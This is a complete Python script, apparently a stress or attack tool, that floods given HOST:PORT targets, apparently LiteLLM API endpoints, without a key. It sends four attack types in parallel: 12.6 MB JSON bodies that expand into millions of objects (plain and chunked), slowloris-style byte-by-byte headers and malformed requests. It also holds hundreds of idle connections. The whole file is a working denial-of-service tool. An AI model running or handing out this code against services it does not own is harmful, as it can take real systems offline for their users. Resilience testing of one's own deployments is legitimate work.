"""Attack some addresses without a key, and print the counts as JSON.

Usage: flood.py SECONDS HOST:PORT...

Sends large bodies that LiteLLM would have to parse, opens idle connections, and
sends headers byte by byte and invalid requests, all in parallel.
"""

import json
import socket
import sys
import threading
import time
from collections.abc import Callable

Target = tuple[str, int]

seconds = float(sys.argv[1])
targets = [
    (host, int(port))
    for host, port in (target.rsplit(":", 1) for target in sys.argv[2:])
]
end = time.monotonic() + seconds
counts = {"tries": 0, "connected": 0}
BODY = b'{"messages":[' + b"{}," * 4_200_000 + b"{}]}"
HEAD = (
    b"POST /v1/chat/completions HTTP/1.1\r\n"
    b"host: x\r\ncontent-type: application/json\r\n"
)


def connect(target: Target) -> socket.socket | None:
    """Return a connection, or None."""
    counts["tries"] += 1
    try:
        connection = socket.create_connection(target, timeout=2)
    except OSError:
        return None
    counts["connected"] += 1
    return connection


def bomb(connection: socket.socket) -> None:
    """Send a body of 12.6 MB that becomes four million dictionaries."""
    connection.sendall(HEAD + b"content-length: %d\r\n\r\n" % len(BODY) + BODY)
    connection.recv(64)


def chunked(connection: socket.socket) -> None:
    """Send the same body in chunks, without its length."""
    connection.sendall(
        HEAD
        + b"transfer-encoding: chunked\r\n\r\n%x\r\n" % len(BODY)
        + BODY
        + b"\r\n0\r\n\r\n"
    )
    connection.recv(64)


def slow(connection: socket.socket) -> None:
    """Send headers byte by byte."""
    for byte in HEAD:
        connection.sendall(bytes([byte]))
        time.sleep(0.2)


def nonsense(connection: socket.socket) -> None:
    """Send bytes that are not a request."""
    connection.sendall(b"\x00NONSENSE\r\n\r\n")
    connection.recv(64)


def attack(how: Callable[[socket.socket], None], target: Target) -> None:
    """Repeat an attack until the time is up."""
    while time.monotonic() < end:
        connection = connect(target)
        if connection is None:
            continue
        try:
            how(connection)
        except OSError:
            pass
        finally:
            connection.close()


def idle(target: Target) -> None:
    """Hold two hundred idle connections."""
    held = []
    while time.monotonic() < end:
        if len(held) < 200:
            connection = connect(target)
            if connection is not None:
                held.append(connection)
        else:
            time.sleep(0.1)
            held = [connection for connection in held if is_open(connection)]


def is_open(connection: socket.socket) -> bool:
    """Return whether the other side has kept a connection open."""
    connection.setblocking(False)
    try:
        return connection.recv(1) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False


threads = [
    threading.Thread(target=attack, args=(how, target))
    for target in targets
    for how in (bomb, chunked, slow, nonsense)
]
threads += [
    threading.Thread(target=idle, args=(target,))
    for target in targets
    for _ in range(3)
]
for thread in threads:
    thread.daemon = True
    thread.start()
time.sleep(seconds)
print(json.dumps(counts))
